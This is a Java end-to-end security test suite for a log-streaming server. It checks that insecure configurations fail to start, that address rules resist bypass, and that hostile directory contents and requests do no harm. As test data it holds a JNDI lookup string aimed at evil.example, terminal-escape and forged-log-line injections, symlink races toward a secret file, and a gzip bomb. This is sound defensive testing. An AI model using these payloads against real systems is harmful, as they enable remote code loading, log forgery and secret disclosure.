package io.logwisp.e2e;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.logwisp.testing.LineClient;
import io.logwisp.testing.LogWriter;
import io.logwisp.testing.Program;
import io.logwisp.testing.RawWebSocket;
import io.logwisp.testing.Tools;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.ConnectException;
import java.net.InetAddress;
import java.net.NetworkInterface;
import java.net.Socket;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.channels.ServerSocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.zip.GZIPOutputStream;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.api.parallel.Execution;
import org.junit.jupiter.api.parallel.ExecutionMode;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The running program with configurations that protect nothing, and with directories in which somebody means harm. */
@Execution(ExecutionMode.CONCURRENT)
class UntrustedE2E {
    private static final String HASH = "0".repeat(64);

    @TempDir
    Path folder;

    private Path logs;
    private int port;

    @BeforeEach
    void prepare() throws IOException {
        logs = Files.createDirectory(folder.resolve("logs"));
        port = Program.freePorts(1).get(0);
    }

    private Program start(String tables, String keys) throws IOException {
        Files.writeString(folder.resolve("logwisp.toml"), """
                [checkpoint]
                enabled = false
                %s
                [[streams]]
                name = "app"
                [streams.monitor]
                start_position = "beginning"
                targets = [{ path = "logs", pattern = "*" }]
                [streams.httpserver]
                enabled = true
                port = %d
                %s
                """.formatted(
                        tables.replace('~', '\n'), port, keys.replace('~', '\n')));
        return Program.start(folder, Map.of(), "--config", "logwisp.toml");
    }

    /** Rows 1, 18, 21, 28 and 42 of docs/security.md. */
    @ParameterizedTest
    @CsvSource(
            quoteCharacter = '`',
            value = {
                "``, host = \"0.0.0.0\", allow_unauthenticated",
                "``, host = \"::\", allow_unauthenticated",
                "``, [streams.tcpserver]~enabled = true~port = 1~host = \"0.0.0.0\", allow_unauthenticated",
                "``, [streams.wsserver]~enabled = true~port = 1~host = \"0.0.0.0\", allow_unauthenticated",
                "[control]~port = 1~host = \"0.0.0.0\", ``, authentication",
                "[auth]~type = \"bearer\"~[auth.bearer_auth]~token_hashes = [\"a:HASH\"], host = \"0.0.0.0\", allow_plaintext_auth",
                "[auth]~ip_whitlist = [\"10.0.0.1\"], ``, did you mean ip_whitelist",
                "[auth]~tipe = \"basic\", ``, did you mean type",
                "[security]~alow_unauthenticated = false, ``, did you mean allow_unauthenticated",
                "[security.ip]~denny = [\"10.0.0.1\"], ``, did you mean deny",
                "[security.limit]~max_connections = 1, ``, did you mean limits",
                "[security.limits]~max_conections = 1, ``, did you mean max_connections",
                "[security.ip]~deny = [\"10.0.0.300\"], ``, 10.0.0.300",
                "``, [streams.httpserver.ssl]~enabled = true~cert_file = \"a.crt\", key_file",
                "``, [streams.httpserver.ssl]~enabled = true~key_file = \"a.key\", cert_file",
                "``, [streams.httpserver.ssl]~enabeld = true, did you mean enabled",
                "``, [streams.auth]~type = \"bearer\", token",
                "`[auth]~type = \"basic\"~[auth.basic_auth]~users = [{ username = \"ann\", password_hash = \"e99a18c428cb38d5f260853678922e03\" }]`, ``, bcrypt",
                "`[auth]~type = \"basic\"~[auth.basic_auth]~users = [{ username = \"ann\", password_hash = \"$2y$04$N9qo8uLOickgx2ZMRZoMyeIjZAgcfl7p92ldGxad68LJZdL17lhWy\" }]`, ``, cost",
                "[auth]~type = \"basic\", ``, users",
                "[audit]~enabled = true~file = \"logs/audit.jsonl\", ``, is followed by stream",
                "``, [[streams.sinks]]~type = \"file\"~path = \"logs/copy.log\", is followed by this stream"
            })
    void whatProtectsNothingDoesNotStart(String tables, String keys, String reason) throws Exception {
        try (Program program = start(tables.replace("HASH", HASH), keys)) {
            assertEquals(78, program.exitCode(), program.standardError());
            assertTrue(program.standardError().contains(reason), program.standardError());
        }
    }

    /** Row 1. */
    @Test
    void whatIsOpenOnPurposeIsTold() throws Exception {
        try (Program program = start("[security]~allow_unauthenticated = true", "host = \"0.0.0.0\"")
                        .awaitReady();
                LineClient client = LineClient.get(port, "/healthz")) {
            assertEquals("HTTP/1.1 200 OK", client.head().get(0));
            String error = program.standardError();
            assertTrue(error.contains("without authentication") || error.contains("everyone"), error);
        }
    }

    /** Row 1: the port for this machine tells how many there are for everyone. */
    @Test
    void whatIsOpenOnPurposeIsCounted() throws Exception {
        int control = Program.freePorts(1).get(0);
        String tables = "[control]~port = " + control + "~[security]~allow_unauthenticated = true";
        try (Program program = start(tables, "host = \"0.0.0.0\"").awaitReady();
                LineClient client = LineClient.get(control, "/metrics")) {
            assertTrue(client.body().contains("\nlogwisp_insecure_listeners 1\n"));
            assertTrue(program.isAlive());
        }
    }

    /** Row 1: what says nothing of hosts is for this machine only. */
    @Test
    void nobodyElseReachesWhatSaysNothingOfHosts() throws Exception {
        List<InetAddress> own = NetworkInterface.networkInterfaces()
                .flatMap(NetworkInterface::inetAddresses)
                .filter(address -> !address.isLoopbackAddress() && !address.isLinkLocalAddress())
                .toList();
        try (Program program = start("", "").awaitReady()) {
            for (InetAddress address : own) {
                assertThrows(ConnectException.class, () -> new Socket(address, port).close(), address.toString());
            }
            assertTrue(program.isAlive());
        }
    }

    /** Row 30, and 29 where nobody is a proxy. */
    @Test
    void anOddSpellingOfAnAddressGetsAroundNoRule() throws Exception {
        String tables = "[security]~allow_unauthenticated = true~[auth]~ip_blacklist = [\"127.0.0.0/8\"]";
        try (Program program = start(tables, "host = \"::\"").awaitReady()) {
            for (String address : List.of("127.0.0.1", "127.1.2.3", "::ffff:127.0.0.1")) {
                for (String header : List.of("X-Nothing: here", "X-Forwarded-For: 192.0.2.1")) {
                    assertEquals("403", code(address, header), address + " " + header);
                }
            }
            assertEquals("200", code("::1", "X-Forwarded-For: 127.0.0.1"));
            assertTrue(program.isAlive());
        }
    }

    private String code(String address, String header) throws Exception {
        try (Socket socket = new Socket(InetAddress.getByName(address), port)) {
            socket.setSoTimeout(60_000);
            socket.getOutputStream()
                    .write(("GET /status HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + header + "\r\n\r\n")
                            .getBytes(StandardCharsets.ISO_8859_1));
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8).split(" ")[1];
        }
    }

    /** Row 10. */
    @Test
    void nothingThatAClientCallsItselfOrAsksForSteersWhoReadsTheLogs() throws Exception {
        String hash = "0".repeat(64);
        String tables = "[audit]~enabled = true~file = \"audit.jsonl\"~[auth]~type = \"bearer\"~[auth.bearer_auth]~"
                + "token_hashes = [\"a:" + hash + "\"]";
        String hostile = "\u001b[2J\u009b31m\u202e" + "x".repeat(300);
        try (Program program = start(tables, "").awaitReady()) {
            for (String request : List.of(
                    "GET /%0a%1b[2J%0d%c2%9b31m?a=%1b HTTP/1.1\r\nHost: localhost\r\n",
                    "GET /stream HTTP/1.1\r\nHost: localhost\r\nUser-Agent: " + hostile + "\r\n",
                    "GET /stream HTTP/1.1\r\nHost: localhost\r\nOrigin: http://" + hostile + "\r\n",
                    "GET /stream HTTP/1.1\r\nHost: " + hostile + "\r\n",
                    "GET /stream HTTP/1.1\r\nHost: localhost\r\nAuthorization: Basic "
                            + Base64.getEncoder()
                                    .encodeToString((hostile + "\r\n00:00:00.000 ERROR forged:x")
                                            .getBytes(StandardCharsets.UTF_8))
                            + "\r\n",
                    "GET /stream HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + hostile + "\r\n")) {
                try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
                    socket.setSoTimeout(60_000);
                    socket.getOutputStream()
                            .write((request + "Connection: close\r\n\r\n").getBytes(StandardCharsets.UTF_8));
                    assertTrue(socket.getInputStream().readAllBytes().length > 0, request);
                }
            }
            program.signal("TERM");
            assertEquals(0, program.exitCode(), program.standardError());
            String audit = Files.readString(folder.resolve("audit.jsonl"));
            assertTrue(audit.contains("\"event\":\"refused\""), audit);
            for (String line : (audit + program.standardError()).lines().toList()) {
                assertTrue(line.chars().noneMatch(c -> c < ' ' || c >= 0x7F && c < 0xA0 || c == 0x202E), line);
                assertFalse(line.startsWith("00:00:00.000"), line);
                assertTrue(line.length() < 1000, line);
            }
        }
    }

    /** Row 13: what was a file when it was found is a link when it is opened, and the other way round. */
    @Test
    void aFileThatIsSwappedForALinkAllTheTimeDoesNotLeadOut() throws Exception {
        Path secret = Files.writeString(folder.resolve("secret.txt"), "the secret\n");
        Path swapped = logs.resolve("swapped.log");
        Path other = Files.createFile(logs.resolve("z.log"));
        try (Program program = start("", "").awaitReady();
                LineClient client = LineClient.get(port, "/stream/raw")) {
            CompletableFuture<Void> swapping = CompletableFuture.runAsync(() -> {
                for (int i = 0; i < 3000; i++) {
                    swap(swapped, secret, i);
                }
            });
            List<String> seen = new ArrayList<>();
            for (int i = 0; i < 300 || !swapping.isDone(); i++) {
                LogWriter.appendLines(other, "line " + i);
                seen.add(client.lineStarting("line " + i));
            }
            swapping.join();
            LogWriter.appendLines(other, "the end");
            assertEquals("the end", client.lineStarting("the end"));
            try (LineClient all = LineClient.get(port, "/stream/raw?n=all&follow=0")) {
                List<String> lines = all.rest();
                assertTrue(lines.contains("the end"));
                assertFalse(lines.contains("the secret"));
            }
            assertTrue(seen.size() >= 300);
        }
    }

    private static void swap(Path path, Path secret, int i) {
        try {
            Path next = path.resolveSibling("next");
            if (i % 2 == 0) {
                Files.createSymbolicLink(next, secret);
            } else {
                Files.writeString(next, "nothing secret " + i + "\n");
            }
            Files.move(next, path, StandardCopyOption.ATOMIC_MOVE, StandardCopyOption.REPLACE_EXISTING);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Rows 10, 13, 14, 38. */
    @Test
    void whatSomebodyPutsIntoADirectoryHarmsNobody() throws Exception {
        Tools.require("mkfifo");
        Files.writeString(folder.resolve("secret.txt"), "the secret\n");
        Files.createSymbolicLink(logs.resolve("a.log"), folder.resolve("secret.txt"));
        Files.createSymbolicLink(logs.resolve("b.log"), logs.resolve("b.log"));
        assertEquals(
                0,
                new ProcessBuilder("mkfifo", logs.resolve("c.log").toString())
                        .start()
                        .waitFor());
        Files.createDirectory(logs.resolve("d.log"));
        Files.createSymbolicLink(logs.resolve("zero.log"), Path.of("/dev/zero"));
        Files.createSymbolicLink(logs.resolve("proc.log"), Path.of("/proc/kmsg"));
        ServerSocketChannel socket = ServerSocketChannel.open(StandardProtocolFamily.UNIX)
                .bind(UnixDomainSocketAddress.of(logs.resolve("socket.log")));
        try (OutputStream bomb = new GZIPOutputStream(Files.newOutputStream(logs.resolve("e.log")))) {
            byte[] zeros = new byte[1 << 20];
            for (int i = 0; i < 64; i++) {
                bomb.write(zeros);
            }
        }
        Path strange = logs.resolve("f\u001b[2J\u009b31m\n00:00:00.000 ERROR forged.log");
        Files.writeString(strange, "of a strange file\n");
        Files.setPosixFilePermissions(strange, java.util.Set.of());
        Path log = Files.createFile(logs.resolve("z.log"));
        try (Program program = start("", "").awaitReady();
                LineClient client = LineClient.get(port, "/stream/raw")) {
            Files.setPosixFilePermissions(
                    strange, java.util.Set.of(java.nio.file.attribute.PosixFilePermission.OWNER_READ));
            LogWriter.appendLines(log, "of an honest one");
            String first = client.line();
            String line = first.equals("of a strange file") ? client.line() : first;
            assertEquals("of an honest one", line);
            program.signal("TERM");
            assertEquals(0, program.exitCode(), program.standardError());
            assertFalse(client.rest().toString().contains("secret"));
            String error = program.standardError();
            assertFalse(error.contains("\u001b") || error.contains("\u009b"), error);
            assertFalse(error.lines().anyMatch(told -> told.startsWith("00:00:00.000 ERROR")), error);
        } finally {
            socket.close();
        }
    }

    /** Rows 52 and 53. */
    @Test
    void withoutNativeCodeTheSameIsServedAndNothingIsLoadedThatRunsScripts() throws Exception {
        Path classes = folder.resolve("classes.txt");
        int tcp = Program.freePorts(1).get(0);
        Path log = Files.createFile(logs.resolve("app.log"));
        Files.writeString(folder.resolve("logwisp.toml"), """
                [checkpoint]
                enabled = false
                [[streams]]
                name = "app"
                [streams.monitor]
                targets = [{ path = "logs", pattern = "*" }]
                [streams.httpserver]
                enabled = true
                port = %d
                [streams.tcpserver]
                enabled = true
                port = %d
                format = "raw"
                """.formatted(port, tcp));
        String options = "-Dio.netty.transport.noNative=true -Xlog:class+load:file=" + classes;
        try (Program program = Program.start(folder, Map.of("JAVA_TOOL_OPTIONS", options), "--config", "logwisp.toml")
                        .awaitReady();
                LineClient http = LineClient.get(port, "/stream/raw");
                RawWebSocket web = RawWebSocket.connect(port, "/ws");
                LineClient raw = LineClient.tcp(tcp)) {
            Awaitility.await()
                    .until(
                            this::status,
                            told -> told.contains("\"transport\":\"tcp\"")
                                    && told.contains("\"transport\":\"websocket\""));
            LogWriter.appendLines(log, "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA== ${jndi:ldap://evil.example/a}");
            for (LineClient client : List.of(http, raw)) {
                assertEquals("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA== ${jndi:ldap://evil.example/a}", client.line());
            }
            assertTrue(web.next().contains("${jndi:ldap://evil.example/a}"));
            program.signal("TERM");
            assertEquals(0, program.exitCode(), program.standardError());
        }
        String loaded = Files.readString(classes);
        assertFalse(loaded.contains("] io.netty.channel.epoll.Native "));
        for (String name : List.of(
                "javax.script.", "java.rmi.", "javax.naming.", "javax.xml.", "org.xml.", "jdk.nashorn.", "groovy.")) {
            assertFalse(loaded.contains("] " + name), name);
        }
        assertTrue(loaded.contains("] io.logwisp.server.HttpFront"));
    }

    private String status() throws IOException {
        try (LineClient client = LineClient.get(port, "/status")) {
            return client.body();
        }
    }

    /** Row 40. */
    @Test
    void noSecretIsInTheConfigurationThatIsPrinted() throws Exception {
        String hash = "$2a$10$" + "N9qo8uLOickgx2ZMRZoMyeIjZAgcfl7p92ldGxad68LJZdL17lhWy";
        String tables =
                "[auth]~type = [\"basic\", \"bearer\"]~[auth.basic_auth]~users = [{ username = \"ann\", password_hash = \""
                        + hash + "\" }]~[auth.bearer_auth]~tokens = [\"the-canary-token\"]";
        try (Program program = start(tables, "").awaitReady()) {
            byte[] line = Files.readAllBytes(Path.of("/proc", Long.toString(program.pid()), "cmdline"));
            assertFalse(new String(line, StandardCharsets.UTF_8).contains("canary"));
            assertFalse(program.standardError().contains("the-canary-token"), program.standardError());
        }
        try (Program printed = Program.start(folder, Map.of(), "check", "-v", "--config", "logwisp.toml")) {
            assertEquals(0, printed.exitCode(), printed.standardError());
            String all = printed.standardOutput() + printed.standardError();
            assertFalse(all.contains("the-canary-token"), all);
        }
    }
}
